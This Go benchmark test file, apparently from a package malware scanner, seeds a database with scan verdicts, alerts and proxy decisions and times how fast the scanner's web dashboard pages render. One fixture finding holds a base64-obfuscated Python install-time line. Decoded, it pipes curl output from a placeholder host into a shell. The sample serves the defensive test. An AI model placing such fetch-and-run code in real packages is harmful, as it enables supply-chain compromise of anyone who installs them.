package web

import (
	"context"
	"crypto/rand"
	"database/sql"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/safeguard-dev/safeguard/internal/analyze"
	"github.com/safeguard-dev/safeguard/internal/severity"
	"github.com/safeguard-dev/safeguard/internal/store"
)

// Sizes of the benchmark's store: a busy monitor's week.
const (
	benchFiles     = 100_000
	benchAlerts    = 1_000
	benchDecisions = 10_000
)

// BenchmarkPages renders each page over a store holding 100,000 scanned
// files (2% flagged, with findings), 1,000 alerts with two deliveries each
// and 10,000 proxy decisions, on SQLite and on PostgreSQL
// ($SAFEGUARD_TEST_POSTGRES, else the local server; skipped without one).
// The time per op is the server's time for the page.
//
//	go test ./internal/web -run '^$' -bench Pages -benchtime 50x
func BenchmarkPages(b *testing.B) {
	for _, backend := range []string{"sqlite", "postgres"} {
		b.Run(backend, func(b *testing.B) {
			st := benchStore(b, backend)
			h := New(Options{Store: st, PublicRead: true, Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
			for _, p := range []string{"/", "/feed", "/feed?verdict=malicious", "/feed?name=PKG_4242", "/feed?since=2000-01-01&after=" + url.QueryEscape(midKey()),
				"/packages/pkg-50", "/projects", "/projects/shop-7", "/alerts", "/alerts/alert-500", "/decisions", "/decisions?action=block", "/rules"} {
				b.Run(url.PathEscape(p), func(b *testing.B) {
					for b.Loop() {
						rec := httptest.NewRecorder()
						h.ServeHTTP(rec, httptest.NewRequest("GET", p, nil))
						if rec.Code != http.StatusOK {
							b.Fatalf("%s: %d\n%s", p, rec.Code, rec.Body)
						}
					}
				})
			}
		})
	}
}

func benchSHA(i int) string { return fmt.Sprintf("%064x", i+1) }

// benchNow is the benchmark store's "now": files are spread over the
// week before it.
var benchNow = time.Now().UTC()

func benchAt(i int) time.Time {
	return benchNow.Add(-time.Duration(i) * (7 * 24 * time.Hour / benchFiles))
}

// midKey is the feed's page key half-way down the store.
func midKey() string {
	i := benchFiles / 2
	return fmt.Sprintf("%d-%s", benchAt(i).UnixMilli(), benchSHA(i))
}

func benchStore(b testing.TB, backend string) *store.Store {
	b.Helper()
	ctx := context.Background()
	var dsn string
	vacuum := func() {} // PostgreSQL's autovacuum would have, on a live store
	if backend == "sqlite" {
		dsn = filepath.Join(b.TempDir(), "bench.db")
	} else {
		base := os.Getenv("SAFEGUARD_TEST_POSTGRES")
		if base == "" {
			base = "postgres://postgres@127.0.0.1:5432/test?sslmode=disable"
		}
		admin, err := sql.Open("pgx", base)
		if err == nil {
			err = admin.PingContext(ctx)
		}
		if err != nil {
			b.Skipf("no PostgreSQL: %v", err)
		}
		r := make([]byte, 6)
		rand.Read(r)
		schema := "sgbench_" + hex.EncodeToString(r)
		if _, err := admin.Exec("CREATE SCHEMA " + schema); err != nil {
			b.Fatal(err)
		}
		b.Cleanup(func() { admin.Exec("DROP SCHEMA " + schema + " CASCADE"); admin.Close() })
		u, _ := url.Parse(base)
		q := u.Query()
		q.Set("search_path", schema)
		u.RawQuery = q.Encode()
		dsn = u.String()
		vacuum = func() {
			if _, err := admin.Exec("ANALYZE " + schema + ".verdicts, " + schema + ".decisions, " + schema + ".alerts, " + schema + ".deliveries"); err != nil {
				b.Fatal(err)
			}
		}
	}
	st, err := store.Open(ctx, dsn)
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { st.Close() })
	findings, _ := json.Marshal([]analyze.Finding{{Rule: "exec-obfuscated", Severity: severity.Critical, Context: analyze.Install,
		File: "pkg/setup.py", Line: 12, Snippet: `exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL2V4YW1wbGUuaW52YWxpZCB8IHNoIik="))`,
		Message: "base64 is decoded and executed at install"}})
	err = st.InTx(ctx, func(tx *store.Tx) error {
		for i := range benchFiles {
			v := store.Verdict{SHA256: benchSHA(i), Project: fmt.Sprintf("pkg-%d", i/4), Version: fmt.Sprintf("1.%d", i%4),
				Filename: fmt.Sprintf("pkg_%d-1.%d.tar.gz", i/4, i%4), Verdict: "clean", Engine: "bench", ScannedAt: benchAt(i)}
			if i%50 == 0 {
				v.Verdict, v.Score, v.Findings = "malicious", 90, findings
			}
			if err := tx.PutVerdict(ctx, v); err != nil {
				return err
			}
		}
		for p := range 20 {
			var deps []store.Dependency
			for d := range 50 {
				deps = append(deps, store.Dependency{Name: fmt.Sprintf("pkg-%d", p*50+d), Version: "1.0", Direct: true, Scope: "main", File: "requirements.txt", Line: d + 1})
			}
			if err := tx.PutProject(ctx, store.Project{Name: fmt.Sprintf("shop-%d", p), Source: "requirements.txt"}, deps); err != nil {
				return err
			}
		}
		for i := range benchAlerts {
			a := store.Alert{ID: fmt.Sprintf("alert-%d", i), Project: fmt.Sprintf("shop-%d", i%20), Dependency: fmt.Sprintf("pkg-%d", i),
				Version: "1.0", Kind: "malicious", Body: json.RawMessage(`{"summary":"malicious"}`), Created: benchAt(i * 100)}
			if _, err := tx.AddAlert(ctx, a, []string{"webhook#1", "smtp#2"}); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		b.Fatal(err)
	}
	ds := make([]store.Decision, benchDecisions)
	for i := range ds {
		ds[i] = store.Decision{Project: fmt.Sprintf("pkg-%d", i), Filename: fmt.Sprintf("pkg_%d-1.0.tar.gz", i), Action: []string{"allow", "block"}[min(i%20, 1)],
			Rule: "verdict", Reason: "clean", Client: "10.0.0.1", At: benchAt(i * 10)}
	}
	if err := st.AddDecisions(ctx, ds); err != nil {
		b.Fatal(err)
	}
	vacuum()
	return st
}
